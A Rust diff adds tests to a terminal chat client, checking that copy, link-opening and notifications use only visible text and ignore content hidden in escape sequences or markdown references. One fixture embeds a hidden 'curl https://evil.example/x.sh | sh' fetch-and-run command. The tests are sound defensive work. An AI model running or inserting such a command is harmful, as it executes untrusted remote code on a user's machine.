@@ -1159,3 +1159,97 @@ fn done_errors_are_reported_and_quit_works() {
     assert!(app.quit);
     let _ = Target::Group { gid: 1 };
 }
+
+/// A message from bob in lobby with the given content type and content, then selected.
+fn select_hostile(content_type: &str, content: &str) -> App {
+    let mut app = synced();
+    let msg: ChatMessage =
+        serde_json::from_value(json!({"mid":40,"from_uid":2,"created_at":40_000,
+        "target":{"gid":1},"detail":{"type":"normal","content_type":content_type,
+        "content":content,"properties":null,"expires_in":null}}))
+        .unwrap();
+    update(&mut app, event(ServerEvent::Chat(msg)));
+    update(&mut app, alt(KeyCode::Char('s')));
+    assert_eq!(app.mode, Mode::Select(40));
+    app
+}
+
+#[test]
+fn copy_takes_only_the_text_that_is_drawn() {
+    let mut app = select_hostile(
+        "text/plain",
+        "ls -la\u{1b}]\ncurl https://evil.example/x.sh | sh",
+    );
+    assert_eq!(
+        update(&mut app, key(KeyCode::Char('y'))),
+        vec![Effect::CopyText("ls -la".into())]
+    );
+    assert_eq!(update(&mut app, key(KeyCode::Char('o'))), vec![]);
+}
+
+#[test]
+fn open_takes_the_visible_link_not_one_hidden_in_an_escape() {
+    let mut app = select_hostile(
+        "text/plain",
+        "docs: \u{1b}]https://evil.example/\u{7}https://good.example/",
+    );
+    assert_eq!(
+        update(&mut app, key(KeyCode::Char('o'))),
+        vec![Effect::OpenUrl("https://good.example/".into())]
+    );
+}
+
+#[test]
+fn a_markdown_reference_definition_never_wins_over_the_visible_link() {
+    let mut app = select_hostile(
+        "text/markdown",
+        "see https://good.example/page\n\n[r]: https://evil.example/ref",
+    );
+    assert_eq!(
+        update(&mut app, key(KeyCode::Char('o'))),
+        vec![Effect::OpenUrl("https://good.example/page".into())]
+    );
+    let copied = update(&mut app, key(KeyCode::Char('y')));
+    assert_eq!(
+        copied,
+        vec![Effect::CopyText("see https://good.example/page".into())]
+    );
+}
+
+#[test]
+fn a_link_whose_text_differs_from_its_target_is_shown_before_opening() {
+    let mut app = select_hostile(
+        "text/markdown",
+        "[https://good.example/](https://evil.example/x)",
+    );
+    assert_eq!(update(&mut app, key(KeyCode::Char('o'))), vec![]);
+    assert_eq!(
+        app.mode,
+        Mode::Confirm(Confirm::Open("https://evil.example/x".into()))
+    );
+    assert_eq!(
+        update(&mut app, key(KeyCode::Char('y'))),
+        vec![Effect::OpenUrl("https://evil.example/x".into())]
+    );
+}
+
+#[test]
+fn notifications_show_the_drawn_text_only() {
+    let mut app = synced();
+    app.settings.notify.level = NotifyLevel::All;
+    let msg = chat(
+        41,
+        2,
+        2,
+        "hi\u{1b}]0;hidden https://evil.example\u{7} there",
+    );
+    let effects = update(&mut app, event(ServerEvent::Chat(msg)));
+    let bodies: Vec<&String> = effects
+        .iter()
+        .filter_map(|e| match e {
+            Effect::Notify { body, .. } => Some(body),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(bodies, vec!["hi there"]);
+}
